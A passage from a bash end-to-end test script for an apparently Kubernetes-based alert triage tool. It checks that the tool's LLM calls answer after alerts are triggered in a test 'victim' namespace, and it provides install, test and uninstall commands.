            next=$((now + 40))
            # shellcheck disable=SC2086 # the command's words
            KCTL -n "$VICTIM_NS" exec "$vpod" -- $cmd >/dev/null || fail "exec $cmd (llm) failed"
        fi
        n=$(metric_sum lanner_triage_llm_latency_seconds_count)
        awk -v a="$n" -v b="$n0" 'BEGIN {exit !(a > b)}' && break
        sleep 1
    done
    fails=$(metric_sum lanner_triage_llm_failures_total)
    awk -v a="$n" -v b="$n0" 'BEGIN {exit !(a > b)}' \
        || fail "no LLM call answered within 120 s and $k alerts (llm_latency count $n0 -> $n, failures $fails)"
    elog "the worker's LLM calls: $n answered (mean $(awk -v s="$(metric_sum lanner_triage_llm_latency_seconds_sum)" -v n="$n" 'BEGIN {printf "%.2f", n ? s / n : 0}') s), $fails failed, after $k alert(s); LLM phase $(($(date +%s) - t0)) s"
}

cmd_uninstall() {
    need_root
    cl_healthy || { elog "cluster not up: nothing to uninstall"; return 0; }
    ensure_venv || true
    KCTL delete namespace "$VICTIM_NS" --ignore-not-found --wait=false >/dev/null 2>&1 || true
    helm_cmd uninstall || true
    KCTL delete pv lanner-e2e-llm-models --ignore-not-found --wait=false >/dev/null 2>&1 || true
}

if [ "${BASH_SOURCE[0]}" = "$0" ]; then
    case "${1:-}" in
    install) cmd_install ;;
    test) cmd_test ;;
    uninstall) cmd_uninstall ;;
    *) sed -n '2,8p' "$0" | sed 's/^# \{0,1\}//' >&2; fail "expected install, test or uninstall" ;;
    esac
fi
